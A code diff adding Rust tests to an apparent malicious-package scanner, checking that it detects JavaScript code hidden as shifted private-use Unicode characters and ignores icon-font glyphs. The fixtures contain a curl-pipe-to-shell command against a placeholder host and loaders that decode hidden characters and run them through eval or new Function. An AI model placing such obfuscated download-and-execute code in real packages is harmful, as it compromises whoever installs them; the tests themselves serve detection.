@@ -173,6 +173,69 @@ mod tests {
         assert_eq!(sev, vec![diligence_finding::Severity::Medium]);
     }
 
+    fn shifted(text: &str, base: u32) -> String {
+        text.chars()
+            .map(|c| char::from_u32(base + c as u32).unwrap())
+            .collect()
+    }
+
+    /// Code hidden as private-use code points, in other shapes than a `c - 0xF0000` loop at
+    /// install: BMP private use (`U+E000 + byte`) decoded by `& 0xff` in a class method and run
+    /// by `new Function`, and plane-16 private use kept in a module constant run by `eval`.
+    #[test]
+    fn private_use_shifted_code() {
+        let payload = "require('child_process').exec('curl -s https://x.example/p | sh')";
+        let bmp = shifted(payload, 0xe000);
+        let js = format!(
+            "class Table {{
+  static load() {{
+    const t = '{bmp}';
+    let s = '';
+    for (const ch of t) s += String.fromCharCode(ch.codePointAt(0) & 0xff);
+    return new Function(s)();
+  }}
+}}
+module.exports = Table;
+"
+        );
+        let s = scan(&[("package.json", PJ), ("lib/table.js", js.as_str())]);
+        let f = crate::rules::test_util::finding(&s, "code/hidden-payload");
+        assert_eq!((f.file.as_str(), f.line), ("lib/table.js", 3));
+        assert_eq!(f.severity, diligence_finding::Severity::High);
+        assert!(
+            s.findings.iter().any(|f| f.rule == "code/download-exec"),
+            "{:?}",
+            s.findings
+        );
+        let plane16 = shifted(payload, 0x100000);
+        let js = format!(
+            "const GLYPHS = \"{plane16}\";
+const dec = [...GLYPHS].map((c) => String.fromCharCode(c.codePointAt(0) - 0x100000)).join('');
+eval(dec);
+"
+        );
+        let s = scan(&[("package.json", PJ), ("index.js", js.as_str())]);
+        // The decoded code and the run of hidden characters, both at the constant.
+        assert_eq!(
+            hits(&s, "code/hidden-payload"),
+            vec![("index.js".to_string(), 1), ("index.js".to_string(), 1)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// An icon font's glyph table: private-use characters, one per icon, from several blocks and
+    /// not spelling text.
+    #[test]
+    fn negative_icon_font_glyphs() {
+        let glyphs: String = (0..40u32)
+            .map(|i| char::from_u32(0xf101 + i * 7).unwrap())
+            .collect();
+        let js = format!("module.exports = {{ all: '{glyphs}', home: '\\uf101' }};\n");
+        let s = scan(&[("package.json", PJ), ("icons.js", js.as_str())]);
+        assert!(hits(&s, "code/hidden-payload").is_empty());
+        assert_eq!(crate::decode::shifted_code_points(&glyphs), None);
+    }
+
     #[test]
     fn negative_base64_image() {
         let s = scan(&[
